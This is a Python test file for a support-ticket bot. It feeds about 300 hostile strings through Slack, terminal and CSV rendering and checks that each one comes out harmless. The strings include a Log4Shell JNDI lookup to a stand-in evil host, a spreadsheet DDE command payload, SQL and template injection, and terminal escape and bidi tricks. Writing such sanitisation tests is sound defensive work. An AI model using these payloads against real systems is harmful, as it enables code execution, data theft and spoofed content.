"""Three hundred texts that would like to act, through everything that shows somebody's words."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from itertools import product
from typing import Any

import pytest
from rich.console import Console

from bot.cli.context import print_table
from bot.console.gateway import Shown
from bot.console.layout import as_text, panel
from bot.dialogue import replies as r
from bot.slack.views.form import modal
from bot.slack.views.home import home
from bot.slack.views.message import render
from bot.texts import forms, staff, surface, user
from bot.texts.message import Message
from bot.tickets.lifecycle import Move
from bot.traffic import Card, CardLog, MessageRef
from knowledge.contracts.registry import inert, parse_contracts, write_contracts
from knowledge.policies.packs import PolicyBook
from tests.builders import CONTRACT, classification, decision, ticket

ACTING = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U0123456789>",
    "<#C0123456789|general>",
    "<!subteam^S0123>",
    "<!date^1^{date}|x>",
    "<https://evil.example|https://example.jp>",
    "<mailto:a@example.jp|x>",
    "＜!channel＞",
    "&lt;!channel&gt;",
    "&amp;lt;!channel>",
    "<\u200b!channel>",
    "<!chan\u00adnel>",
    "*太字* _斜体_ ~消~ `コード`",
    "```\ncode",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "\u202etxt.exe\u202c",
    "\u2066isolate\u2069",
    "a\u200b\u200c\u200d\u2060b",
    "\x1b[31mred\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x00nul\x08\x7f",
    "[red]rich[/red]",
    "[/not-open]",
    "[link=https://evil.example]x[/link]",
    '=HYPERLINK("https://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "\tTAB",
    '"quoted","cells"',
    "';DROP TABLE tickets;--",
    "${jndi:ldap://evil.example}",
    "{{7*7}} {0.__class__}",
    "%s%n%d",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "ｅ\u0301\u0301\u0301" * 30,
)
WRAPPED = (
    "{}",
    "メールが{}送れません",
    "{}\r\n{}",
    " {} ",
    "あ" * 290 + "{}",
    "{}" + "い" * 90,
    "&{}<",
    "*{}*",
)
HOSTILE = tuple(shape.replace("{}", text) for shape, text in product(WRAPPED, ACTING))
#: What must never be shown as it is: codes for terminals, what turns the direction, what cannot be seen.
INVISIBLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]")
#: Kinds of text in which Slack reads no markup.
LITERAL = {"plain_text", "text"}


def messages(text: str) -> Iterator[Message]:
    """Every message that repeats somebody's words."""
    shown = ticket(
        summary=text,
        description=text,
        contact=text,
        reporter_name=text,
        started_at=text,
        attachments=text,
        product=text,
        close_reason=text,
        isolation=(text,),
    )
    understood = r.Understanding(
        category=classification().category.label,
        severity=classification().severity.label,
        extent=classification().signals.extent,
        product=text,
        severity_sure=True,
        category_sure=True,
        decision=decision(reason=text, notes=(text,)),
    )
    yield staff.card(Card(ticket=shown))
    yield surface.home([shown])
    for reply in (
        r.TicketSummary(understanding=understood, holder=text, masked_number=text, words=text),
        r.TriageReply(understanding=understood, question=None),
        r.FaqAnswer(entry_id="a", question=text, answer="答え", source=text),
        r.StaffQuestion(ticket_id=text, question=text),
        r.StaffAnswer(ticket_id=text, text=text),
        r.TicketRejected(ticket_id=text, reason=text),
        r.TicketMoved(ticket_id=text, move=Move.CLOSE, text=text),
        r.Noted(ticket_id=text),
    ):
        yield user.render(reply)


def live(value: Any, literal: bool = False) -> Iterator[str]:
    """Every text in which Slack would read markup."""
    if isinstance(value, dict):
        literal = literal or value.get("type") in LITERAL
        if not literal and isinstance(value.get("text"), str):
            yield value["text"]
        for inner in value.values():
            yield from live(inner, literal)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from live(inner, literal)


def texts(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, inner in value.items():
            if key == "text" and isinstance(inner, str):
                yield inner
            else:
                yield from texts(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from texts(inner)


def test_there_are_three_hundred() -> None:
    assert len(set(HOSTILE)) >= 300


def test_slack_is_shown_words_only() -> None:
    for text in HOSTILE:
        for message in messages(text):
            rendered = render(message)
            assert re.search("[<>]", rendered.text) is None, repr(text)
            for found in [rendered.text, *texts(rendered.blocks)]:
                assert INVISIBLE.search(found) is None, repr(text)
            for found in live(rendered.blocks):
                assert re.search("<[@#!]", found) is None, repr(text)


def test_log_line_home_and_forms_are_shown_words_only() -> None:
    for text in HOSTILE:
        line = staff.log_line(CardLog(ticket_id="M-1", actor="U1", action=Move.NOTE, text=text), text)
        rendered = render(Message(fallback=line, parts=()))
        views = [
            home(surface.home([ticket(summary=text)])),
            modal(forms.identification("slack/T1/C1/1", text)),
        ]
        assert re.search("[<>]", rendered.text) is None
        for found in [rendered.text, *texts(views)]:
            assert INVISIBLE.search(found) is None, repr(text)


def test_terminal_gets_no_codes_and_no_markup() -> None:
    for text in HOSTILE:
        for message in messages(text):
            assert INVISIBLE.search(as_text(message).replace("\n", "")) is None, repr(text)
            console = Console(file=io.StringIO(), width=200, force_terminal=False)
            console.print(panel(Shown(ref=MessageRef(channel="c", message="1"), message=message, key="k")))
            assert isinstance(console.file, io.StringIO)
            assert "\x1b" not in console.file.getvalue(), repr(text)


def test_tables_of_the_command_line_show_cells_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    for text in HOSTILE:
        print_table("", ("a",), [(text,)])
        out = capsys.readouterr().out
        assert INVISIBLE.search(out.replace("\n", "")) is None, repr(text)
    print_table("", ("a",), [("[red]rich[/red] [/x]",)])
    assert "[red]rich[/red] [/x]" in capsys.readouterr().out


def test_no_cell_of_a_csv_begins_a_formula() -> None:
    for text in HOSTILE:
        written = inert(text)
        assert re.match("[=+\\-@\t\r＝＋－＠−]", written) is None, repr(text)


def test_hostile_holder_survives_export_and_import() -> None:
    book = PolicyBook.load()
    for holder in ("=1+1", "+81", "-x", "@a", "＝1", 'a"b', "'=1", "'x", "a,b"):
        made = CONTRACT.__class__(number="P100200", holder=holder, policy_id="o365")
        raw = write_contracts([made])
        for row in csv.reader(io.StringIO(raw)):
            assert [cell for cell in row if re.match("[=+@＝＋＠-]", cell)] == []
        assert parse_contracts(raw.encode(), book) == (made,)
